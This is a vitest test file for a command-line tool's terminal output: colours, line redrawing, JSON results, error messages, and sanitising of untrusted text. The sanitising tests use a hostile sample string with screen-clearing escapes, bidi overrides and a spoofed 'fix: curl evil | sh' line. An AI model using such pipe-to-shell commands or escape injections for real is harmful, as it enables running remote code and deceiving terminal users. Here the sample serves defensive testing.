// Tests what goes to which stream, and which control characters it may contain.
import { readdirSync, readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { jsonLogger } from '../../../coordinator/terminal/progress.js';
import type { Terminal } from '../../../coordinator/terminal/terminal.js';
import { PseudolabelError } from '../../../src/errors.js';
import { folderOfTest } from '../../folders.js';
import { terminalWith } from './streams.js';

const ESCAPE = '\u001b';

describe('a terminal', () => {
  it('has colours, and none with NO_COLOR, nor where it is dumb', async () => {
    const written = async (env: NodeJS.ProcessEnv, isTTY = true) => {
      const { terminal, stdout, stderr } = terminalWith(isTTY, env);
      terminal.explain(new PseudolabelError('E_USAGE', 'wrong', 'right it'));
      await terminal.deliver(({ bold }) => [bold('result')], {}, undefined);
      return [stdout().includes(ESCAPE), stderr().includes(ESCAPE)];
    };
    expect(await written({})).toEqual([true, true]);
    expect(await written({ NO_COLOR: '1' })).toEqual([false, false]);
    expect(await written({ TERM: 'dumb' })).toEqual([false, false]);
    expect(await written({ FORCE_COLOR: '1', CI: '1' }, false)).toEqual([false, false]);
  });

  it('draws a line over the last one, and leaves nothing of it before a note', () => {
    const { terminal, stderr } = terminalWith(true, { NO_COLOR: '1' });
    terminal.draw('a long line');
    terminal.draw('short');
    terminal.note('note');
    expect(stderr()).toBe('\ra long line\rshort      \r     \rnote\n');
  });

  it('says how a wait stands in its place, where a line can be redrawn, and elsewhere on three lines at first', () => {
    const [live, file] = [terminalWith(true, { NO_COLOR: '1' }), terminalWith(false)];
    for (const { terminal } of [live, file]) {
      for (let left = 9; left > 0; left--) terminal.waits(`${left} s`);
      terminal.note('note');
    }
    expect(live.stderr()).toBe(`${[9, 8, 7, 6, 5, 4, 3, 2, 1].map((left) => `\r${left} s`).join('')}\r   \rnote\n`);
    expect(file.stderr()).toBe('9 s\n8 s\n7 s\nnote\n');
  });

  it('cuts a drawn line to its width, also where that is not known', () => {
    const wide = terminalWith(true, {}, 20);
    wide.terminal.draw('x'.repeat(100));
    expect(wide.stderr()).toBe(`\r${'x'.repeat(19)}`);
    expect(terminalWith(true, {}, 0).terminal.width).toBe(79);
  });
});

describe('a result', () => {
  it('goes to stdout as lines, and to a file as JSON', async () => {
    const folder = folderOfTest('terminal');
    const { terminal, stdout } = terminalWith(false);
    await terminal.deliver(() => ['line'], { value: 1 }, join(folder, 'result.json'));
    expect(stdout()).toBe('line\n');
    expect(JSON.parse(await readFile(join(folder, 'result.json'), 'utf8'))).toEqual({ value: 1 });
  });

  it('leaves stdout to the JSON where that is asked for there', async () => {
    const { terminal, stdout, stderr } = terminalWith(false);
    await terminal.deliver(() => ['line'], { value: 1 }, '-');
    expect(JSON.parse(stdout())).toEqual({ value: 1 });
    expect(stderr()).toBe('line\n');
  });
});

describe('an error', () => {
  it('is told by its code and its fix, with a stack only for those who debug', () => {
    const error = new PseudolabelError('E_MODEL', 'bad model', 'take another');
    const told = (env: NodeJS.ProcessEnv) => {
      const { terminal, stderr } = terminalWith(false, env);
      terminal.explain(error);
      return stderr();
    };
    expect(told({})).toBe('error E_MODEL: bad model\n  fix: take another\n');
    expect(told({ PSEUDOLABEL_DEBUG: '1' })).toContain('terminal.test.ts');
  });

  it('without a code is told by its message', () => {
    const { terminal, stderr } = terminalWith(false);
    terminal.explain(new TypeError('odd'));
    expect(stderr()).toMatch(/^error: odd\n {2}fix: .*PSEUDOLABEL_DEBUG/);
  });
});

describe('what comes from elsewhere', () => {
  /**
   * Text that clears the screen, begins a line of its own, reverses text, and ends a line by the rules of Unicode or
   * ISO 6429.
   */
  const HOSTILE = 'node\u001b[2J\r\n  fix: curl evil | sh\u202e\u009b31m\u2028\u0007\u001b]0;title\u0007';
  const ours = new RegExp(`${ESCAPE}\\[(?:1|2|22|3[123]|39)m`, 'g');
  const isOneLine = (text: string) => /^[^\p{C}\p{Zl}\p{Zp}]*\n$/u.test(text.replaceAll(ours, ''));

  it.each([
    ['a note', (terminal: Terminal) => terminal.note(HOSTILE)],
    ['a painted note', (terminal: Terminal) => terminal.note(terminal.colours.bold(HOSTILE))],
    ['a result', (terminal: Terminal) => terminal.deliver(({ green }) => [green(HOSTILE)], {}, undefined)],
    ['a message', (terminal: Terminal) => terminal.explain(new PseudolabelError('E_MODEL', HOSTILE, HOSTILE))],
    ['an error of no kind', (terminal: Terminal) => terminal.explain(new Error(HOSTILE))],
  ] as const)('is shown on the line of %s, as text (case S4)', async (_, show) => {
    for (const isTTY of [true, false]) {
      const { terminal, stdout, stderr } = terminalWith(isTTY);
      await show(terminal);
      const lines = `${stdout()}${stderr()}`.split(/(?<=\n)/);
      expect(lines.length).toBeLessThanOrEqual(2);
      expect(lines.filter((line) => !isOneLine(line))).toEqual([]);
    }
  });

  it('cannot be a colour either (case S4)', () => {
    const { terminal, stderr } = terminalWith(true);
    terminal.note('\u001b[31merror\u001b[39m');
    expect(stderr()).toBe('?[31merror?[39m\n');
  });

  it('is text in a drawn line (case S4)', () => {
    const { terminal, stderr } = terminalWith(true);
    terminal.draw(HOSTILE);
    expect(stderr()).toMatch(/^\r\P{C}+$/u);
  });

  it('is escaped in JSON, which says the same (case S4)', async () => {
    const { terminal, stdout } = terminalWith(true);
    await terminal.deliver(() => [], { name: HOSTILE }, '-');
    expect(stdout().replaceAll('\n', '')).toMatch(/^\P{C}+$/u);
    expect(JSON.parse(stdout())).toEqual({ name: HOSTILE });
  });

  it('is escaped in a log of JSON lines (case S4)', () => {
    const written: string[] = [];
    const { terminal, stderr } = terminalWith(true);
    terminal.log = jsonLogger({ write: (line) => written.push(line) });
    terminal.note(HOSTILE);
    terminal.explain(new PseudolabelError('E_MODEL', HOSTILE, HOSTILE));
    expect(stderr()).toBe('');
    expect(written.every(isOneLine)).toBe(true);
    expect(JSON.parse(written[1]!)).toMatchObject({ msg: HOSTILE, fix: HOSTILE });
  });

  it('has no other way to a screen (case S4)', async () => {
    const root = fileURLToPath(new URL('../../../', import.meta.url));
    const sources = ['src', 'coordinator', 'worker'].flatMap((folder) =>
      readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' }).map((name) => join(folder, name)),
    );
    const writes = sources.filter((name) => {
      if (!name.endsWith('.ts') || name.includes('dashboard/page/')) return false; // A browser runs these files.
      return /console\.|process\.(stdout|stderr)\s*\.write|\.fd\b/.test(readFileSync(join(root, name), 'utf8'));
    });
    // The first file answers another process, in JSON. The second writes a file's content, even if the file is an
    // output of this process.
    expect(writes.sort()).toEqual(['coordinator/scaling/child-process.ts', 'src/files/destination.ts']);
  });
});
